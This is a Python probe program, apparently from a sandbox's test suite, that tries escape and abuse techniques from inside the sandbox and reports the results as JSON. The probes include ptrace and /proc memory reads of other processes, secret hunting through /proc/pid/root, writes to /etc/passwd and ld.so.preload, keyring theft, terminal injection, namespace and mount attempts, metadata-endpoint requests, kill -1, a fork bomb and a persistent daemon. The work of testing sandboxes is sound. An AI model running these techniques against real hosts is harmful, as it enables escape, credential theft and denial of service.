"""The program that attacks the sandbox from inside; prints whether the named attack succeeded, as JSON."""

from __future__ import annotations

import ctypes
import glob
import json
import os
import socket
import stat
import sys
import time
from collections.abc import Callable
from typing import IO, Any

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
LIBC = ctypes.CDLL(None, use_errno=True)


def read(path: str) -> bytes:
    try:
        with open(path, "rb", opener=lambda name, flags: os.open(name, flags | os.O_NONBLOCK)) as stream:
            # A pipe or a device of another process may never end.
            return stream.read(1 << 20) if stat.S_ISREG(os.fstat(stream.fileno()).st_mode) else b""
    except OSError:
        return b""


def write(path: str) -> bool:
    try:
        with open(path, "ab") as stream:
            stream.write(b"stolen\n")
    except OSError:
        return False
    return True


def can_write(path: str) -> bool:
    """Opens without a change, so that a hole in the sandbox costs the machine nothing."""
    new = not os.path.lexists(path)
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    except OSError:
        return False
    if new:
        os.unlink(path)
    return True


def pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def environment(words: str) -> list[int]:
    """Of any process, the sandbox's first one and every ancestor among them."""
    return [pid for pid in pids() if words.encode() in read(f"/proc/{pid}/environ")]


def memory(backwards: str) -> list[int]:
    """Of any other process. The sandbox's own first one may be open, if it knows and may do no more than we."""
    words, found = backwards[::-1].encode(), []
    for pid in pids():
        if pid == os.getpid():
            continue
        if pid != 1 and LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            LIBC.ptrace(PTRACE_DETACH, pid, 0, 0)
            found.append(pid)
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as stream:
                if pid != 1 or words in mapped(pid, stream) or "CapPrm:\t0000000000000000" not in status(pid):
                    found.append(pid)
        except OSError:
            pass
    return found


def mapped(pid: int, stream: IO[bytes]) -> bytes:
    everything = b""
    for line in read(f"/proc/{pid}/maps").decode().splitlines():
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        try:
            stream.seek(start)
            everything += stream.read(end - start)
        except (OSError, OverflowError, ValueError):
            pass
    assert b"bwrap" in everything or b"/bin/sh" in everything, "nothing was read"
    return everything


def status(pid: int | str) -> str:
    return read(f"/proc/{pid}/status").decode()


def secret(words: str, *paths: str) -> list[str]:
    # In another place of our own view; "/.." leads to what a root was put on top of.
    tops = ["", "/..", *(f"{root}/{name}" for root in ("", "/..") for name in os.listdir(root + "/"))]
    # In the view of another process, and in files that were left open.
    views = [f"/proc/{pid}/{way}" for pid in pids() for way in ("root", "cwd")]
    found = [top + path for path in paths for top in (*tops, *views) if words.encode() in read(top + path)]
    found += [path for pid in pids() for path in glob.glob(f"/proc/{pid}/fd/*") if words.encode() in read(path)]
    return found[:9]


def sights(*more: str) -> list[str]:
    """What the root shows besides what a program needs."""
    usual = ["bin", "box", "dev", "etc", "lib", "lib32", "lib64", "libx32", "nix", "proc", "run", "sbin", "tmp"]
    shown = {name for root in ("/", "/..") for name in os.listdir(root)} - {*usual, "usr", "var", *more}
    return sorted(shown - {sys.base_prefix.split("/")[1]})


def others() -> list[str]:
    """The arguments of processes that are neither ours nor the sandbox's own first ones."""
    own = {os.getpid(), os.getppid(), 1}
    return [read(f"/proc/{pid}/cmdline").decode() for pid in pids() if pid not in own]


def outside(*paths: str) -> list[str]:
    tries = [*paths, "/usr/bin/stolen", "/etc/passwd", "/stolen", "/etc/ld.so.preload", sys.base_prefix + "/stolen"]
    return [path for path in tries if can_write(path)]


def host_root(*paths: str) -> list[str]:
    """Through the root folder or the working folder of another process."""
    return [
        path for path in paths for pid in pids() for way in ("root", "cwd") if can_write(f"/proc/{pid}/{way}{path}")
    ]


def kernel() -> list[str]:
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger"]
    there = [path for path in paths if os.path.exists(path)]
    return [path for path in there if can_write(path) or not os.statvfs(path).f_flag & os.ST_RDONLY]


def network(port: str, abstract: str) -> list[str]:
    found = []
    places: list[tuple[int, Any]] = [(socket.AF_INET, ("127.0.0.1", int(port))), (socket.AF_UNIX, "\0" + abstract)]
    for family, address in places:
        with socket.socket(family) as client:
            client.settimeout(2)
            try:
                client.connect(address)
                found.append(repr(address))
            except OSError:
                pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        try:
            client.connect(("192.0.2.1", 53))
            found.append("a route out")
        except OSError:
            pass
    return found


def index(address: str, port: str, abstract: str) -> dict[str, Any]:
    """What an installation gets, and what a build that runs in it reaches besides: by itself, and through the proxy."""
    from urllib.error import URLError
    from urllib.request import ProxyHandler, build_opener, urlopen

    def got(url: str) -> str:
        try:
            with urlopen(url, timeout=10) as answer:
                return str(answer.read().decode())
        except (URLError, OSError) as error:
            return str(getattr(error, "code", error))

    hops = [f"http://127.0.0.1:{port}/", "http://169.254.169.254/latest/meta-data/", "https://127.0.0.1:443/"]
    proxies = [f"http://127.0.0.1:{listening}" for listening in (port, "3128")]
    around = [build_opener(ProxyHandler({"http": proxy})) for proxy in proxies]
    passed = 0
    for opener in around:
        try:
            opener.open(address, timeout=2).close()
            passed += 1
        except OSError:
            pass
    return {
        "index": got(address),
        "hops": [got(hop) for hop in hops],
        "self": network(port, abstract),
        "around": passed,
    }


def loopback() -> list[str]:
    found = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        if family == socket.AF_INET6 and not os.path.exists("/proc/net/if_inet6"):
            continue
        with socket.socket(family) as server:
            server.bind((host, 0))
            server.listen()
            socket.create_connection(server.getsockname()[:2], timeout=2).close()
            found.append(host)
    return found


def kill_others() -> bool:
    """Ask the kernel to end everything that we may; the answer is whether our parents are gone."""
    parent = os.getppid()
    # Where others are in sight, a hole in the sandbox must not cost the machine that runs the tests.
    everybody = [-1] if len(pids()) < 8 else []
    for target in (parent, 1, *everybody):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    time.sleep(0.3)
    return os.getppid() != parent


def privileges(helper: str) -> list[str]:
    found = [line for line in status("self").splitlines() if line.startswith(("CapPrm", "CapEff", "CapBnd", "CapAmb"))]
    found = [line for line in found if line.split()[1].strip("0")]
    if os.getuid() == 0 or os.geteuid() == 0 or 0 in os.getgroups():
        found.append("root")
    if os.popen(f"{helper} -u").read().strip() == "0":
        found.append("setuid")
    return found


def mounts() -> list[str]:
    found = []
    for source, target, kind, flags in (
        (b"none", b"/usr", None, 32 | 4096),
        (b"tmpfs", b"/tmp", b"tmpfs", 0),
        (b"proc", b"/proc", b"proc", 0),
    ):
        if LIBC.mount(source, target, kind, flags, None) == 0:
            found.append(target.decode())
    if LIBC.umount2(b"/proc/sys", 2) == 0 or LIBC.umount2(b"/usr", 2) == 0:
        found.append("umount")
    try:
        os.mknod("/tmp/device", 0o600 | 0o060000, os.makedev(8, 0))
        found.append("device")
    except OSError:
        pass
    return found


def user_namespace() -> bool:
    return bool(LIBC.unshare(0x10000000) == 0)


CALLS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}
KEYRINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user's session": -5}
SEARCH, READ, LINK, DESCRIBE = 10, 11, 8, 6


def keyrings(name: str, backwards: str) -> list[str]:
    """Find a key of the user's by asking, by searching, in the kernel's list; or leave one for later programs."""
    add_key, request_key, keyctl = CALLS[os.uname().machine]
    words, found = backwards[::-1].encode(), list[str]()
    asked = LIBC.syscall(request_key, b"user", name.encode(), None, 0)
    places = [
        (f"searched {place}", LIBC.syscall(keyctl, SEARCH, number, b"user", name.encode(), 0))
        for place, number in KEYRINGS.items()
    ]
    listed = [("listed", int(line.split()[0], 16)) for line in read("/proc/keys").decode().splitlines() if name in line]
    for way, key in (("asked", asked), *places, *listed):
        buffer = ctypes.create_string_buffer(100)
        if way == "listed" or (key > 0 and LIBC.syscall(keyctl, READ, key, buffer, 100) > 0 and words in buffer.raw):
            found.append(way)
    for place, number in KEYRINGS.items():
        if LIBC.syscall(add_key, b"user", b"planted", b"x", 1, number) > 0:
            found.append(f"planted {place}")
    if LIBC.syscall(keyctl, 0, -3, 0) > 0:
        found.append("session")
    return found


def surface() -> list[str]:
    """Parts of the kernel that no test needs and that breaks out of sandboxes began with."""
    found = []
    x86 = os.uname().machine == "x86_64"
    for call, number, arguments in (
        ("io_uring", 425, (1, ctypes.create_string_buffer(200))),
        ("bpf", 321 if x86 else 280, (0, None, 0)),
        ("userfaultfd", 323 if x86 else 282, (1,)),
        ("a handle", 304 if x86 else 265, (-1, None, 0)),
        ("fsopen", 430, (b"tmpfs", 0)),
    ):
        # EBADF, EFAULT, EINVAL: the kernel has looked at it.
        if LIBC.syscall(number, *arguments) >= 0 or ctypes.get_errno() in (9, 14, 22):
            found.append(call)
    pid = os.fork()
    if pid == 0:  # the answer to a call of x32 may be the end
        os._exit(int(LIBC.syscall(0x40000000 + 39) == os.getpid()))
    if os.waitpid(pid, 0)[1] == 1 << 8:
        found.append("x32")
    for family, kind, protocol in SOCKETS:
        try:
            socket.socket(family, kind, protocol).close()
            found.append(f"socket {family} {protocol}")
        except OSError:
            pass
    return found


# vsock, Bluetooth, packets, the kernel's cryptography, TIPC; of netlink: sockets of others, events, generic, audit
SOCKETS = ((40, 1, 0), (31, 3, 1), (17, 3, 0), (38, 5, 0), (30, 1, 0), *((16, 3, one) for one in (4, 6, 9, 12, 15, 16)))


def new_user_namespace() -> list[str]:
    """By each call that can make one or enter one."""
    found = []
    x86 = os.uname().machine == "x86_64"
    wish = (ctypes.c_uint64 * 11)(0x10000000, *([0] * 10))
    ways: list[tuple[str, Callable[[], int]]] = [
        ("unshare", lambda: LIBC.unshare(0x10000000 | 0x20000)),
        ("clone", lambda: LIBC.syscall(56 if x86 else 220, 0x10000000 | 17, 0, 0, 0, 0)),
        ("clone3", lambda: LIBC.syscall(435, wish, 88)),
        ("setns", lambda: LIBC.setns(os.open("/proc/self/ns/user", os.O_RDONLY), 0x10000000)),
    ]
    for way, attempt in ways:
        pid = os.fork()
        if pid == 0:
            before = os.getpid()
            got = attempt()
            if os.getpid() != before:
                os._exit(0)
            os._exit(1 if got >= 0 else 0)
        if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 1:
            found.append(way)
    return found


def terminal() -> list[str]:
    """Type into a terminal: on hosts where it is ours, what is typed is run after we are gone."""
    import fcntl
    import termios

    parent, child = os.openpty()
    found = []
    for command in (0x5412, 0x541C, 0x5412 | 1 << 32):
        try:
            fcntl.ioctl(child, command & 0xFFFFFFFF, b"x") if command < 1 << 32 else wide_ioctl(child, command)
            found.append(hex(command))
        except OSError:
            pass
    assert termios.tcgetattr(parent)
    return found


def wide_ioctl(number: int, command: int) -> None:
    """The kernel looks at the low half alone."""
    if LIBC.syscall(16 if os.uname().machine == "x86_64" else 29, number, ctypes.c_ulong(command), b"x") < 0:
        raise OSError(ctypes.get_errno(), "ioctl")


def foreign_calls() -> bool:
    """Call as a 32-bit program does, whose numbers mean other calls; the answer is whether the kernel served it."""
    import mmap

    # mov eax, 20 (getpid); int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    pid = os.fork()
    if pid == 0:
        os._exit(int(call() == os.getpid()))
    return os.waitpid(pid, 0)[1] == 1 << 8


def names() -> list[str]:
    """What lookups of names and interfaces need."""
    found = [name for _, name in socket.if_nameindex()]
    found += sorted({str(entry[4][0]) for entry in socket.getaddrinfo("localhost", 80, type=socket.SOCK_STREAM)})
    return found


def sockets(*paths: str) -> list[str]:
    """Daemons that would act for us, such as docker's."""
    found = []
    for path in paths:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(path)
                found.append(path)
            except OSError:
                pass
    return found


def daemon(path: str) -> bool:
    """Leave session and parent twice over, then stay."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 32):
                try:
                    import signal

                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                write(path)
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.3)
    return os.path.exists(path)


def bomb() -> int:
    """Fork without end; the answer, if one comes, is how many there were."""
    count = 0
    while count < 1000:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            count += 1
        except OSError:
            break
    return count


def flood() -> None:
    while True:
        os.write(1, b"x" * 65536)


def core() -> None:
    import resource

    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    os.abort()


def big_file(path: str) -> None:
    with open(path, "wb") as stream:
        for _ in range(1000):
            stream.write(b"x" * 65536)
            stream.flush()


def fill(*folders: str) -> None:
    """Take memory by files, which no process shows as its own."""
    for folder in folders:
        with open(folder + "/ballast", "wb") as stream:
            stream.writelines(b"x" * (1 << 20) for _ in range(48))
    time.sleep(10)


def leave(*folders: str) -> list[str]:
    """Files, closed folders and links where everybody may write, and memory that belongs to no process."""
    for folder in folders:
        with open(f"{folder}/left-file", "wb") as stream:
            stream.write(b"x" * 4096)
        os.makedirs(f"{folder}/left-folder/deep/deeper", exist_ok=True)
        os.symlink("/etc", f"{folder}/left-folder/deep/link")
        os.chmod(f"{folder}/left-folder/deep", 0)
    return [
        str(LIBC.shmget(0x5EED, 4096, 0o1666) >= 0),
        str(LIBC.msgget(0x5EED, 0o1666) >= 0),
        str(LIBC.semget(0x5EED, 1, 0o1666) >= 0),
    ]


def queue() -> bool:
    """A message queue of the kernel's, which no process has to hold."""
    return bool(ctypes.CDLL("librt.so.1").mq_open(b"/left-queue", 0o102, 0o600, None) >= 0)


def idle_workers() -> int:
    """Many that share the memory of the one that forked them."""
    ballast = bytearray(os.urandom(1 << 16) * 1024)
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    time.sleep(2)
    return len(ballast) >> 20


def facts() -> dict[str, Any]:
    return {
        "environ": dict(os.environ),
        "uid": os.getuid(),
        "cwd": os.getcwd(),
        "files": sorted(os.listdir("/proc/self/fd")),
        "home": [os.listdir(os.environ["HOME"]), write(os.environ["HOME"] + "/mine")],
        "temporary": [os.listdir(os.environ["TMPDIR"]), write(os.environ["TMPDIR"] + "/mine")],
        "here": write("mine"),
        "stdin": sys.stdin.read(),
    }


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](*sys.argv[2:])), flush=True)
